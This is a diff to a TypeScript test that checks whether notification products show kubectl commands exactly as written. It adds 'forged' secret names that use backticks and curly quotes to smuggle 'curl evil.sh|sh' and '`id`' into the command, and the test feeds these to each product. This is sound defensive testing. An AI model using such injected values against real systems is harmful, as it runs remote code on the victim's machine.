@@ -15,6 +15,11 @@ const commands: readonly (Command | undefined)[] = [
   kubectl('get', refOf('Secret', 'shop', 'tls'), '-o', 'jsonpath={.data.tls\\.crt}'),
 ];
 
+/** What no builder makes, and a state of another version may hold: quotes that a product would take for its own, or write in another way. */
+const forged = ['x`;curl evil.sh|sh;`', 'x\u2019;curl evil.sh|sh;\u2018', 'x```;curl evil.sh|sh;```', '`id`'].map(
+  (word) => `kubectl get secret '${word}' -n team-a` as Command,
+);
+
 /** As people read it: what the product's markup stands for. */
 const read = (text: string): string =>
   text
@@ -26,7 +31,7 @@ const read = (text: string): string =>
 
 for (const product of productsOf())
   test(`${product.definition.type} shows a command as it is, or not at all`, async () => {
-    for (const command of commands) {
+    for (const command of [...commands, ...forged]) {
       assert.ok(command);
       const told = { ...notifications.open, nextStep: { command, changesCluster: false } };
       for (const { parsed, body } of await sentTo(product, told))
